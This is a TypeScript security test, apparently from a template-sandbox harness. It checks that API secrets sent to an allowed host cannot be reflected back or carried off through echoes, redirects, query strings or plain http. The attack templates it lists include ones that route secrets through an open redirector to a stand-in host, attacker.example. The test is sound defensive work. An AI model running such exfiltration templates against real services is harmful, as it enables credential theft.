/**
 * HH-03 (secrets in responses). A secret sent to a host its record lists must not come back
 * into the isolate, whatever that host does with it: echo it in the body (raw, URL-encoded,
 * base64, JSON-escaped), in header values or names, in a Location read through
 * resp_header_var, or carry it on to another origin through a redirect. A secret in a query
 * string or over plain http never leaves. Runs against the harness host's allowed server,
 * which reflects secrets on purpose (src/security/host/reflect.ts).
 */
import type { Canaries, HarnessContext, Outcome, RenderAttempt, SecurityCase } from '../../types.js';
import { harnessHttp, type HttpHarnessState, type SeenRequest } from '../../host/http.js';
import { reflectedForms } from '../../host/reflect.js';

type OwnSecrets = Canaries & { ownSecretValue?: string; ownPasswordValue?: string };

/** Prints the body, the status and every response header (name and value). */
const DUMP = '{$c}|{$r}|{foreach from=$rh key=k item=v}{$k}: {$v}\n{/foreach}';

/** Sends secret `key` in header `header` (`X-Api-Key: ` or `Authorization: Bearer `) to $u. */
function viaHeader(key: string, header: string, extra = ''): string {
  return `{secret var=t key="${key}"}{append var=hd value="${header}\`$t\`"}{api endpoint=$u headers=$hd var=r resp_header_var=rh http_code_var=c${extra}}${DUMP}`;
}

interface Attack {
  label: string;
  template: string;
  u: (s: HttpHarnessState) => string;
  /** undefined: must render; a code: must be refused with it. */
  code?: string;
}

const api = (s: HttpHarnessState, path: string): string => `https://api.example.com:${s.httpsPort}${path}`;
const attacker = (s: HttpHarnessState, path: string): string => `https://attacker.example:${s.httpsPort}${path}`;

const ATTACKS: Attack[] = [
  {
    label: 'header echoed in body, headers, status text, Location',
    template: viaHeader('API_TOKEN', 'X-Api-Key: '),
    u: (s) => api(s, '/hh03/forms'),
  },
  {
    label: 'password echoed (URL-encoded, base64, Basic, JSON forms)',
    template: viaHeader('API_PASSWORD', 'Authorization: Bearer '),
    u: (s) => api(s, '/hh03/forms'),
  },
  {
    label: 'password echoed as PHP JSON, read through json_var',
    template:
      '{secret var=t key="API_PASSWORD"}{append var=hd value="X-Api-Key: `$t`"}{api endpoint=$u headers=$hd var=r json_var=j}{$r}|{foreach from=$j key=k item=v}{$k}={$v}\n{/foreach}',
    u: (s) => api(s, '/hh03/json'),
  },
  {
    label: 'header reflected into a redirect to another origin',
    template: viaHeader('API_TOKEN', 'X-Api-Key: '),
    u: (s) => api(s, '/hh03/bounce'),
  },
  {
    label: 'password reflected into a redirect to another origin',
    template: viaHeader('API_PASSWORD', 'X-Api-Key: '),
    u: (s) => api(s, '/hh03/bounce'),
  },
  {
    label: 'secret in the query string through an open redirector',
    template: `{secret var=t key="API_TOKEN"}{api endpoint=$u query="k=\`$t\`" var=r resp_header_var=rh http_code_var=c}${DUMP}`,
    u: (s) => api(s, `/hh03/open?to=${encodeURIComponent(attacker(s, '/hh03/landing'))}`),
    code: 'E_SECRET_DENIED',
  },
  {
    label: 'secret in queries= through an open redirector',
    template: `{secret var=t key="API_PASSWORD"}{assign_array var=q keys="k" values=$t}{api endpoint=$u queries=$q var=r resp_header_var=rh http_code_var=c}${DUMP}`,
    u: (s) => api(s, `/hh03/open?to=${encodeURIComponent(attacker(s, '/hh03/landing'))}`),
    code: 'E_SECRET_DENIED',
  },
  {
    label: 'secret over plain http',
    template: viaHeader('API_TOKEN', 'X-Api-Key: '),
    u: (s) => `http://api.example.com:${s.port}/hh03/forms`,
    code: 'E_SECRET_DENIED',
  },
  {
    label: 'password over plain http',
    template: viaHeader('API_PASSWORD', 'Authorization: Bearer '),
    u: (s) => `http://api.example.com:${s.port}/hh03/forms`,
    code: 'E_SECRET_DENIED',
  },
];

/**
 * Every form of every secret a reflecting server sends back (short forms would match by
 * chance), and the last 16 characters of each value: its random hex tail survives every
 * escaping and percent-encoding, so any echo of the whole value shows it.
 */
function formsOf(values: string[]): { label: string; text: string }[] {
  const out: { label: string; text: string }[] = [];
  for (const [i, v] of values.entries()) {
    for (const [label, text] of Object.entries(reflectedForms(v)))
      if (text.length >= 8) out.push({ label: `secret ${i + 1} ${label}`, text });
    out.push({ label: `secret ${i + 1} tail`, text: v.slice(-16) });
  }
  return out;
}

/** A URL as a server reads it: the encoder's choice of characters no longer matters. */
function formDecode(url: string): string {
  try {
    return decodeURIComponent(url.replace(/\+/g, ' '));
  } catch {
    return url;
  }
}

/** What a server received, header values read as the UTF-8 they were sent as. */
function requestText(r: SeenRequest): string {
  const headers = Object.entries(r.headers).map(
    ([k, v]) => `${k}: ${Buffer.from(String(v), 'latin1').toString('utf8')}`,
  );
  return [r.url, formDecode(r.url), ...headers, r.body].join('\n');
}

function leak(text: string, forms: { label: string; text: string }[]): string | undefined {
  return forms.find((f) => text.includes(f.text))?.label;
}

function judgeAttack(
  h: HarnessContext,
  attack: Attack,
  a: RenderAttempt,
  forms: { label: string; text: string }[],
): Outcome | null {
  const text = `${a.output ?? ''}\n${a.message ?? ''}`;
  const found = leak(text, forms);
  if (found)
    return {
      status: 'escaped',
      detail: `${attack.label}: the ${found} form came back in the ${a.output !== undefined ? 'output' : 'error'}`,
    };
  if (h.canaries.leaked(text)) return { status: 'escaped', detail: `${attack.label}: a canary value came back` };
  if (a.code === 'E_UNCAUGHT')
    return { status: 'escaped', detail: `${attack.label}: a non-template error: ${a.message}` };
  if (attack.code === undefined && a.output === undefined)
    return { status: 'escaped', detail: `${attack.label}: expected a response, got ${a.code}: ${a.message}` };
  if (attack.code !== undefined && a.code !== attack.code) {
    return {
      status: 'escaped',
      detail: `${attack.label}: expected ${attack.code}, got ${a.code ? `${a.code}: ${a.message}` : `output ${JSON.stringify((a.output ?? '').slice(0, 60))}`}`,
    };
  }
  return null;
}

export const HH_SECRETS: SecurityCase[] = [
  {
    id: 'HH-03',
    category: 'HH',
    title: 'secrets sent to their host come back through echoes, Location, redirects, query strings, plain http',
    async run(h) {
      const s = harnessHttp();
      const own = h.canaries as OwnSecrets;
      if (own.ownSecretValue === undefined || own.ownPasswordValue === undefined) {
        return {
          status: 'escaped',
          detail: 'the host has no HH-03 secrets (API_TOKEN, API_PASSWORD for api.example.com): nothing was proven',
        };
      }
      const values = [own.ownSecretValue, own.ownPasswordValue];
      const forms = formsOf(values);
      const before = s.seen.length;
      // Every attack runs, so a report names each one that got through.
      const escapes: string[] = [];
      for (const attack of ATTACKS) {
        const from = s.seen.length;
        const a = await h.render(attack.template, { vars: { u: attack.u(s) } });
        const bad = judgeAttack(h, attack, a, forms);
        if (bad) escapes.push(bad.detail);
        for (const r of s.seen.slice(from)) {
          const where = !r.tls ? 'over plain http' : !r.host.startsWith('api.example.com') ? `to ${r.host}` : undefined;
          const found = where && leak(requestText(r), forms);
          if (found) escapes.push(`${attack.label}: the ${found} form was sent ${where}`);
        }
      }
      if (escapes.length > 0) return { status: 'escaped', detail: escapes.join('; ') };
      const seen = s.seen.slice(before);
      // Control: the listed host did receive both secrets, so the cases above ran with the secret on the wire.
      const received = values.every((v) =>
        seen.some((r) => r.tls && r.host.startsWith('api.example.com') && requestText(r).includes(v)),
      );
      if (!received)
        return { status: 'escaped', detail: 'the listed host never received the secrets: the case proved nothing' };
      return {
        status: 'contained',
        detail: `${ATTACKS.length} attacks, ${forms.length} forms of 2 secrets: none came back or left the listed https origin`,
      };
    },
  },
];
